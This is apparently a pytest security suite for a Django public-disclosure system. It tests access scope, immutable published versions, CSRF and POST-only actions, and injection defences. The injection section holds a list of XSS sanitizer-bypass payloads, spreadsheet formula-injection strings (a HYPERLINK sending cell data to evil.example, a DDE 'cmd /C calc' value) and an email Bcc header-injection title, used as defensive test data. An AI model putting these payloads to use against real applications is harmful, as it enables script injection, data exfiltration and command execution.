"""A security review of the disclosures' trust promises, written as attacks: scope (who reads and does what),
published text that never changes silently, script and formula injection, and state changes only by POST with
a CSRF token. Each test is an attack that the system must resist."""

from __future__ import annotations

import base64
import io
import json
import re

import openpyxl
import pytest
from django.contrib import admin
from django.core import mail
from django.core.exceptions import ValidationError
from django.test import Client
from django.urls import reverse

from gongkai.conftest import _person
from gongkai.core import notify
from gongkai.core.access import AccessDenied
from gongkai.core.models import AuditEntry, Notification
from gongkai.disclosures import actions, topic_actions, topic_queries
from gongkai.disclosures.choices import Status
from gongkai.disclosures.models import CatalogItem, Disclosure, DisclosureVersion, Question, TopicRequest
from gongkai.disclosures.sanitize import clean_body, render_body

from .disclosure_helpers import PDF, draft, published, upload

pytestmark = pytest.mark.usefixtures("english")


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.GONGKAI_LOG_KEY_FILE = tmp_path / "keys" / "log.pem"
    settings.GONGKAI_LOG_SIGN_INTERVAL = 0


@pytest.fixture
def mark(tree):
    """An employee of 一矿 itself (not of 综采一区): outside an audience narrowed to 综采一区."""
    return _person("A003", "马克", tree["MA"])


# ------------------------------------------------------------------------------------------------ 1. scope


def test_a_correction_in_preparation_is_invisible_to_readers(client, tree, olga, leo, alice, wages):
    d = published(olga, leo, tree["MA"], wages, body="<p>原文</p>")
    d = actions.start_correction(
        actor=olga,
        disclosure=d,
        title="秘密标题",
        body="<p>尚未批准的更正</p>",
        reason="草稿理由",
        expected_revision=d.revision,
        files=[upload("草稿附件.pdf", PDF)],
    )
    draft_file = d.attachments.get(name="草稿附件.pdf")
    client.force_login(alice)
    page = client.get(reverse("disclosures:detail", args=[d.pk])).content.decode()
    assert "原文" in page
    assert "尚未批准的更正" not in page and "秘密标题" not in page and "草稿理由" not in page
    # guessing the id of the file added to the correction does not download it
    url = reverse("disclosures:attachment", args=[d.pk, draft_file.pk])
    assert client.get(url).status_code == 404
    api = client.get(f"/api/v1/disclosures/{d.pk}").json()
    assert "尚未批准的更正" not in json.dumps(api, ensure_ascii=False)


def test_a_narrowed_audience_is_kept_everywhere(client, tree, olga, leo, alice, mark, wages):
    """Published by 一矿 to 综采一区 only: mark, in 一矿 itself, reads it nowhere (page, API, log bytes)."""
    d = published(olga, leo, tree["MA"], wages, title="只给综采一区", audience=tree["MA1"])
    v = d.current_version
    proof = reverse("log:inclusion") + f"?object_type=disclosures.version&object_id={v.pk}"
    client.force_login(mark)
    assert client.get(reverse("disclosures:detail", args=[d.pk])).status_code == 404
    assert client.get(f"/api/v1/disclosures/{d.pk}").status_code == 404
    assert "只给综采一区" not in client.get(reverse("disclosures:board")).content.decode()
    assert "leaf_bytes" not in client.get(proof).json()
    client.force_login(alice)
    assert client.get(reverse("disclosures:detail", args=[d.pk])).status_code == 200
    assert "只给综采一区" in base64.b64decode(client.get(proof).json()["leaf_bytes"]).decode()


def test_leaf_bytes_go_only_to_readers_and_not_after_withdrawal(client, tree, olga, leo, alice, bob, wages):
    d = published(olga, leo, tree["MA"], wages, title="三月工资")
    proof = reverse("log:inclusion") + f"?object_type=disclosures.version&object_id={d.current_version_id}"
    assert "leaf_bytes" not in Client().get(proof).json()  # anonymous
    client.force_login(bob)
    answer = client.get(proof).json()
    assert "leaf_bytes" not in answer and "leaf_hash" in answer
    client.force_login(alice)
    assert "leaf_bytes" in client.get(proof).json()
    actions.withdraw(actor=leo, disclosure=d, reason="数据有误")
    assert "leaf_bytes" not in client.get(proof).json()
    client.force_login(olga)  # the unit's officer still checks it
    assert "leaf_bytes" in client.get(proof).json()


def test_bob_can_do_nothing_to_a_sibling_mines_disclosure(client, tree, olga, leo, alice, bob, wages):
    d = published(olga, leo, tree["MA"], wages)
    q = actions.ask(actor=alice, disclosure=d, text="何时发放？")
    pending = draft(olga, tree["MA"], wages, title="草稿")
    before = AuditEntry.objects.count()
    client.force_login(bob)
    posts = {
        reverse("disclosures:ask", args=[d.pk]): {"text": "bob 的问题"},
        reverse("disclosures:answer", args=[d.pk, q.pk]): {"text": "bob 的回答", "public": "on"},
        reverse("disclosures:withdraw", args=[d.pk]): {"reason": "bob", "revision": d.revision},
        reverse("disclosures:correct", args=[d.pk]): {"title": "改", "body": "改", "reason": "改"},
        reverse("disclosures:cancel_correction", args=[d.pk]): {"revision": d.revision},
        reverse("disclosures:submit", args=[pending.pk]): {"revision": pending.revision},
        reverse("disclosures:edit", args=[pending.pk]): {"title": "改", "revision": pending.revision},
        reverse("disclosures:review", args=[pending.pk]): {"decision": "approve", "revision": 0},
    }
    for url, data in posts.items():
        assert client.post(url, data).status_code == 404, url
    assert (
        client.post(f"/api/v1/disclosures/{d.pk}/questions", {"text": "x"}, "application/json").status_code
        == 404
    )
    assert AuditEntry.objects.count() == before
    q.refresh_from_db()
    assert q.answered_at is None and Question.objects.count() == 1


def test_an_admin_is_not_the_units_voice_on_topic_requests(client, tree, alice, charlie):
    """An admin runs the system; answering (declining) a topic request for the unit is for its officers and
    leading group, as for approving disclosures."""
    topic = topic_actions.propose(actor=alice, unit=tree["MA"], title="食堂合同", text="请公开。")
    assert not topic_actions.can_answer(charlie, topic)
    assert topic_queries.awaiting_answer(charlie) == {"open": 0, "overdue": 0}
    with pytest.raises(AccessDenied):
        topic_actions.decline(actor=charlie, request=topic, reason="管理员代答：不公开")
    client.force_login(charlie)
    url = reverse("disclosures:topic_decline", args=[topic.pk])
    assert client.post(url, {"reason": "管理员代答：不公开"}).status_code in (400, 404)
    topic.refresh_from_db()
    assert topic.status == "open"


def test_a_topic_request_does_not_show_answers_its_reader_may_not_read(client, tree, olga, leo, mark, wages):
    """A request to 一矿 is seen by all of 一矿; its answer published to 综采一区 only must not show its title to
    mark (in 一矿 but not in 综采一区)."""
    asker = _person("A004", "提问人", tree["MA"])
    topic = topic_actions.propose(actor=asker, unit=tree["MA"], title="井下津贴", text="请公开。")
    published(
        olga, leo, tree["MA"], wages, title="综采一区津贴明细", audience=tree["MA1"], topic_request=topic
    )
    client.force_login(mark)
    page = client.get(reverse("disclosures:topic", args=[topic.pk]))
    assert page.status_code == 200
    assert "综采一区津贴明细" not in page.content.decode()


def test_inbox_notifications_of_another_person_are_out_of_reach(client, alice, bob):
    note = notify.notify(alice, "x", "给艾丽丝的通知", url="/disclosures/")
    client.force_login(bob)
    assert "给艾丽丝的通知" not in client.get(reverse("inbox:list")).content.decode()
    for name in ("inbox:read", "inbox:open"):
        assert client.post(reverse(name, args=[note.pk])).status_code == 404
    client.post(reverse("inbox:read_all"))
    note.refresh_from_db()
    assert note.read_at is None


def test_board_photos_are_served_only_to_those_who_see_the_register(client, tree, olga, alice, bob, mark):
    from gongkai.disclosures import board_actions
    from gongkai.disclosures.choices import BoardLevel

    from .disclosure_helpers import PNG

    board = board_actions.add_board(
        actor=olga,
        unit=tree["MA"],
        number="MA-K-09",
        location="矿办公楼前",
        level=BoardLevel.COMPANY,
        photo=upload("p.png", PNG),
    )
    url = reverse("disclosures:board_photo", args=[board.pk])
    for person in (alice, bob, mark):
        client.force_login(person)
        assert client.get(url).status_code == 404
    client.force_login(olga)
    assert client.get(url).status_code == 200


# ------------------------------------------------------------------------------- 2. published text is final


def test_a_correction_cannot_move_the_published_disclosure_without_review(tree, olga, leo, alice, wages):
    """While a correction is prepared the published version stays what readers get: its draft must not change
    the audience, category or period of the published disclosure before the leading group approves."""
    d = published(olga, leo, tree["MA"], wages, period="2026-03")
    d = actions.start_correction(
        actor=olga,
        disclosure=d,
        title=d.title,
        body="<p>更正</p>",
        reason="更正",
        expected_revision=d.revision,
    )
    with pytest.raises(ValidationError):
        actions.update_draft(
            actor=olga,
            disclosure=d,
            expected_revision=d.revision,
            title=d.draft_title,
            body="<p>更正</p>",
            audience=tree["MA1"],
            period="2026-04",
        )
    d.refresh_from_db()
    assert (d.audience_id, d.period) == (tree["MA"].pk, "2026-03")
    # the same values as published are accepted (the edit form sends them back unchanged)
    actions.update_draft(
        actor=olga,
        disclosure=d,
        expected_revision=d.revision,
        title=d.draft_title,
        body="<p>更正二</p>",
        audience=tree["MA"],
        period="2026-03",
        category=wages.category,
        item=wages,
    )


def test_the_correction_page_cannot_narrow_the_audience(client, tree, olga, leo, alice, wages):
    d = published(olga, leo, tree["MA"], wages)
    client.force_login(olga)
    form = {
        "category": wages.category.pk,
        "item": wages.pk,
        "period": "2026-03",
        "title": d.title,
        "body": "<p>更正</p>",
        "reason": "更正",
        "channels": ["web"],
        "revision": d.revision,
    }
    client.post(reverse("disclosures:correct", args=[d.pk]), form)
    d.refresh_from_db()
    assert d.status == Status.DRAFT
    client.post(
        reverse("disclosures:edit", args=[d.pk]), {**form, "audience": tree["MA1"].pk, "revision": d.revision}
    )
    d.refresh_from_db()
    assert d.audience_id == tree["MA"].pk
    client.force_login(alice)
    assert client.get(reverse("disclosures:detail", args=[d.pk])).status_code == 200


def test_the_admin_site_cannot_edit_disclosures_or_the_log(client, root):
    editable = []
    for model, model_admin in admin.site._registry.items():
        if model._meta.app_label in ("disclosures", "core"):
            fake = type("R", (), {"user": root})()
            if model_admin.has_change_permission(fake) or model_admin.has_delete_permission(fake):
                editable.append(model._meta.label)
            if model_admin.has_add_permission(fake):
                editable.append(model._meta.label)
    assert editable == []
    client.force_login(root)
    assert client.get("/admin/disclosures/disclosureversion/").status_code == 404
    assert client.get("/admin/disclosures/disclosure/").status_code == 404


def test_a_published_version_refuses_an_update_through_the_orm(tree, olga, leo, wages):
    d = published(olga, leo, tree["MA"], wages)
    v = DisclosureVersion.objects.get(pk=d.current_version_id)
    v.body = "<p>偷改</p>"
    with pytest.raises(Exception):  # noqa: B017, PT011 - the model guard or the database trigger
        v.save()
    assert DisclosureVersion.objects.get(pk=v.pk).body != "<p>偷改</p>"


# ---------------------------------------------------------------------------------------- 3. injection

BYPASSES = [
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<img src=x onerror="alert(1)">',
    "<iframe src=//evil.example></iframe>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<<script>script>alert(1)<</script>/script>",
    '<table><td background="javascript:alert(1)">x</td></table>',
    "<!--<img src=x onerror=alert(1)>-->",
]
DANGEROUS = re.compile(
    r"<\s*(script|svg|math|img|iframe|form|style|noscript|object|embed)\b|\son\w+\s*=|javascript:|vbscript:"
    r"|data:|style\s*=|background\s*=",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", BYPASSES)
def test_known_sanitizer_bypasses_are_neutralised(payload):
    for cleaned in (clean_body(payload), render_body(payload), render_body(clean_body(payload))):
        assert not DANGEROUS.search(cleaned), cleaned


def _cells(content: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_the_catalog_export_writes_no_formulas(client, alice, wages):
    CatalogItem.objects.filter(pk=wages.pk).update(
        title='=HYPERLINK("http://evil.example/?x="&A1,"点我")', description="+cmd|' /C calc'!A0"
    )
    client.force_login(alice)
    cells = _cells(client.get(reverse("disclosures:catalog_export")).content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert '=HYPERLINK("http://evil.example/?x="&A1,"点我")' in [c.value for c in cells]


def test_the_compliance_export_writes_no_formulas(client, tree, gina, wages):
    import datetime as dt

    from gongkai.disclosures.models import ScheduleEntry
    from gongkai.org.models import Unit

    Unit.objects.filter(pk=tree["MA1"].pk).update(name="=1+2")
    CatalogItem.objects.filter(pk=wages.pk).update(title="@SUM(1+1)*cmd|' /C calc'!A0")
    ScheduleEntry.objects.create(
        unit=tree["MA1"],
        item=wages,
        period="2025-03",
        period_start=dt.date(2025, 3, 1),
        period_end=dt.date(2025, 3, 31),
        due_date=dt.date(2025, 4, 10),
        responsible=_person("A005", "=2+3", tree["MA1"]),
    )
    client.force_login(gina)
    response = client.get(reverse("disclosures:compliance_export", args=[tree["G"].pk]) + "?year=2025")
    cells = _cells(response.content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells]
    assert "=1+2" in values and "=2+3" in values


def test_a_notification_title_cannot_break_the_email_headers(
    settings, alice, django_capture_on_commit_callbacks
):
    """A topic title is free text: a line break in it must not make the email copy (of everyone in the same
    batch) fail to send again and again."""
    settings.EMAIL_HOST = "smtp.example"
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    alice.email = "alice@example.com"
    alice.save()
    with django_capture_on_commit_callbacks(execute=True):
        note = notify.notify(alice, "topics.overdue", "逾期：食堂\nBcc: victim@example.com", key="k1")
    assert "\n" not in note.title
    assert len(mail.outbox) == 1 and mail.outbox[0].bcc == [] and "\n" not in mail.outbox[0].subject
    rows = [notify.Note(person_id=alice.pk, kind="x", title="批量\r\n标题", key="k2")]
    with django_capture_on_commit_callbacks(execute=True):
        notify.notify_many(rows)
    assert "\n" not in Notification.objects.get(key="k2").title and len(mail.outbox) == 2


def test_script_in_topic_answers_boards_and_inbox_is_text(client, tree, olga, leo, alice):
    script = "<script>alert(1)</script>"
    topic = topic_actions.propose(actor=alice, unit=tree["MA"], title=f"题{script}", text=f"文{script}")
    topic_actions.decline(actor=leo, request=topic, reason=f"不公开的理由{script}")
    notify.notify(alice, "x", f"通知{script}", body=f"正文{script}")
    client.force_login(alice)
    for url in (
        reverse("disclosures:topic", args=[topic.pk]),
        reverse("disclosures:topics"),
        reverse("inbox:list"),
    ):
        page = client.get(url).content.decode()
        assert script not in page, url


# ------------------------------------------------------------------------------- 4. POST only, with CSRF


def test_get_on_every_action_url_changes_nothing(client, tree, olga, leo, alice, wages):
    d = published(olga, leo, tree["MA"], wages)
    q = actions.ask(actor=alice, disclosure=d, text="问题")
    pending = actions.submit(
        actor=olga, disclosure=draft(olga, tree["MA"], wages, title="待审"), expected_revision=1
    )
    topic = topic_actions.propose(actor=alice, unit=tree["MA"], title="题目", text="内容")
    note = notify.notify(leo, "x", "通知", url="/")
    before = (AuditEntry.objects.count(), Notification.objects.filter(read_at__isnull=False).count())
    client.force_login(leo)
    urls = [
        reverse("disclosures:submit", args=[pending.pk]),
        reverse("disclosures:review", args=[pending.pk]) + "?decision=approve&revision=2",
        reverse("disclosures:withdraw", args=[d.pk]) + "?reason=x&revision=1",
        reverse("disclosures:cancel_correction", args=[d.pk]),
        reverse("disclosures:ask", args=[d.pk]) + "?text=x",
        reverse("disclosures:answer", args=[d.pk, q.pk]) + "?text=x",
        reverse("disclosures:topic_second", args=[topic.pk]),
        reverse("disclosures:topic_decline", args=[topic.pk]) + "?reason=不公开的理由",
        reverse("disclosures:topic_draft", args=[topic.pk]),
        reverse("inbox:read", args=[note.pk]),
        reverse("inbox:open", args=[note.pk]),
        reverse("inbox:read_all"),
    ]
    for url in urls:
        assert client.get(url).status_code in (200, 302, 405), url
    assert (AuditEntry.objects.count(), Notification.objects.filter(read_at__isnull=False).count()) == before
    pending.refresh_from_db()
    assert pending.status == Status.IN_REVIEW


def test_state_changes_need_a_csrf_token(tree, olga, leo, alice, wages):
    d = published(olga, leo, tree["MA"], wages)
    client = Client(enforce_csrf_checks=True)
    client.force_login(alice)
    assert client.post(reverse("disclosures:ask", args=[d.pk]), {"text": "跨站的问题"}).status_code == 403
    api = client.post(f"/api/v1/disclosures/{d.pk}/questions", {"text": "跨站的问题"}, "application/json")
    assert api.status_code == 403
    topic = TopicRequest.objects.create(
        unit=tree["MA"], proposer=olga, title="t", text="t", deadline="2099-01-01"
    )
    assert client.post(reverse("disclosures:topic_second", args=[topic.pk])).status_code == 403
    client.force_login(leo)
    form = {"reason": "跨站撤回", "revision": d.revision}
    assert client.post(reverse("disclosures:withdraw", args=[d.pk]), form).status_code == 403
    assert not Question.objects.exists()
    assert Disclosure.objects.get(pk=d.pk).status == Status.PUBLISHED
